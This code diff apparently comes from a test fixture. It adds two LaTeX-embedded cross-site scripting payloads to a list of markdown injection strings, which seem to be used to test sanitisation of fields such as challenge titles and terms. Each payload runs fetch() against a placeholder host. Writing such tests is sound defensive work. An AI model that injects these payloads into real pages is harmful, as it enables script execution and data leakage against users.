@@ -67,6 +67,8 @@ MARKDOWN = (
     "<javascript:fetch('//HOST/N')>",
     "[a](JaVaScRiPt&colon;fetch('//HOST/N'))",
     "`<script>fetch('//HOST/N')</script>`",
+    r"$\href{javascript:fetch('//HOST/N')}{x}$",
+    r"$$\text{</math><img src=x onerror=fetch('//HOST/N')>}$$",
 )
 TEXTS: dict[type[Base], tuple[str, ...]] = {
     Challenge: ("title", "terms"),
